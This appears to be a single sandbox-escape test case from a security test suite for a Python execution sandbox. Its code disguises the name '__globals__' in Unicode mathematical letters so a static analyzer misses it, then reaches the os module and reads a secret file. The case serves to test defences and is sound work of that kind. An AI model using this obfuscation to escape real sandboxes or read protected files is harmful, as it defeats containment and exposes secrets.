# class: parser differentials
# technique: an attribute in mathematical letters
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
g = quit.__init__.__𝐠𝑙𝓸𝔟𝕒𝖑𝗌__
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
